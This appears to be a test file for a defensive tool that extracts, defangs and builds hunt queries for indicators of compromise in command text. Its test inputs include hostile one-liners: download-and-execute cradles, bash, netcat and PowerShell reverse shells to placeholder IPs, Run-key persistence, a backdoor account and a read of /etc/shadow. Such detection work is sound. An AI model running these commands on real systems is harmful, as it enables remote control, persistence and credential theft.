import { LineIndex } from '../core/lines.js';
import type { Indicator } from './indicator.js';
import { findIndicators } from './find-indicators.js';

const all = (text: string): Indicator[] => {
  const loose: Indicator[] = [];
  return [...findIndicators(text, 0, new LineIndex(text), new Set(), loose), ...loose];
};
const find = (text: string): string[] => all(text).map(({ type, value }) => `${type} ${value}`);

describe('findIndicators', () => {
  it.each([
    ["IEX (New-Object Net.WebClient).DownloadString('http://a.example.test:8080/p/x.ps1?id=1')", ['url http://a.example.test:8080/p/x.ps1?id=1', 'domain a.example.test']],
    ['curl http://192.0.2.7:4444/x | sh', ['url http://192.0.2.7:4444/x', 'ip 192.0.2.7', 'ip:port 192.0.2.7:4444']],
    ["New-Object Net.Sockets.TCPClient('198.51.100.3',4444)", ['ip 198.51.100.3', 'ip:port 198.51.100.3:4444']],
    ['bash -i >& /dev/tcp/203.0.113.9/53 0>&1', ['ip:port 203.0.113.9:53']],
    ['nc 203.0.113.9 9001 -e /bin/sh', ['ip:port 203.0.113.9:9001']],
    ['ping evil.example.com', ['domain evil.example.com']],
    ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b', ['registryKey HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run']],
    ['reg add "HKLM\\Software\\A B\\C" /v a', ['registryKey HKLM\\Software\\A B\\C']],
    ["Set-ItemProperty -Path 'HKLM:\\Software\\Foo Bar' -Name x", ['registryKey HKLM:\\Software\\Foo Bar']],
    ['schtasks /create /tn "My Task" /tr calc /sc daily', ['task My Task']],
    ["Register-ScheduledTask -TaskName 'Updater2' -Action $a", ['task Updater2']],
    ['sc create WinSvc binPath= C:\\a.exe', ['service WinSvc', 'path C:\\a.exe']],
    ["$f.RegisterTaskDefinition('Sync2', $d, 6, $u, $p, 3)", ['task Sync2']],
    ["[pscredential]::new('LAB\\op', $p)", ['account LAB\\op']],
    ['Resolve-DnsName a.example.test -Server 192.0.2.53', ['ip 192.0.2.53']],
    ['copy a "D:\\Old\\$($x.Name).zip"', ['path D:\\Old']],
    ['net user backdoor P@ss /add', ['account backdoor']],
    ['useradd -m -s /bin/bash svc_web', ['account svc_web']],
    ["$m = New-Object Threading.Mutex($false, 'Global\\abc')", ['mutex Global\\abc']],
    ['copy a %TEMP%\\b.exe', ['path %TEMP%\\b.exe']],
    ['"C:\\Program Files\\A B\\c.exe" /x', ['path C:\\Program Files\\A B\\c.exe']],
    ['cat /etc/shadow > /tmp/.s', ['path /etc/shadow', 'path /tmp/.s']],
    ['mail bob@example.com', ['mail bob@example.com']],
    ['certutil -hashfile a # d41d8cd98f00b204e9800998ecf8427e', ['hash d41d8cd98f00b204e9800998ecf8427e']],
    [`curl -A "Agent/1.0 (x)" http://a.example.test/`, ['userAgent Agent/1.0 (x)']],
  ])('finds the indicators of %s', (text, expected) => {
    expect(find(text)).toEqual(expect.arrayContaining(expected));
  });

  it.each(['Assembly, Version=4.0.0.0, Culture=neutral', '[System.IO.File]::ReadAllText($x)', 'os.path.join(a.name, b.info)', 'version 1.2.3.4', 'xmlns="http://www.w3.org/2000/svg"', 'ping 127.0.0.1', 'a.exe b.dll c.ps1 d.sh'])('finds no host in %s', (text) => {
    expect(find(text).filter((each) => /^(?:url|domain|ip|mail)/.test(each))).toEqual([]);
  });

  it('keeps apart what does not stand in its line to the letter', () => {
    const text = "x.connect(('192.0.2.9', 4444))\nopen('C:\\\\Users\\\\Public\\\\a.exe')";
    const loose: Indicator[] = [];
    const literal = findIndicators(text, 0, new LineIndex(text), new Set(), loose);
    expect(literal.map(({ value }) => value)).toEqual(['192.0.2.9']);
    expect(loose.map(({ value }) => value)).toEqual(['192.0.2.9:4444', 'C:\\Users\\Public\\a.exe']);
  });

  it.each(['eval("http://a.exam\u2026")', 'run /tmp/ab/\u2026', 'copy %COMSPEC', '"C:\\Windows\\System32\\cmd.exe" /c x', '/usr/bin/curl -V'])('takes nothing cut off or of the system for a value: %s', (text) => {
    expect(find(text)).toEqual([]);
  });

  it('parts a quoted program from its arguments', () => {
    expect(find('"C:\\Tools\\a b.exe -x -y"')).toEqual(['path C:\\Tools\\a b.exe']);
  });

  it('names each once, with its line, defanged, and with a hunt', () => {
    const text = 'a\ncurl http://a.example.test/x\ncurl http://a.example.test/x';
    const [url] = findIndicators(text, 3, new LineIndex(text), new Set());
    expect(url).toMatchObject({ type: 'url', layer: 3, line: 2, defanged: 'hxxp://a[.]example[.]test/x' });
    expect(url?.hunt).toContain('DeviceNetworkEvents');
    expect(find(text).filter((each) => each.startsWith('url'))).toHaveLength(1);
  });
});
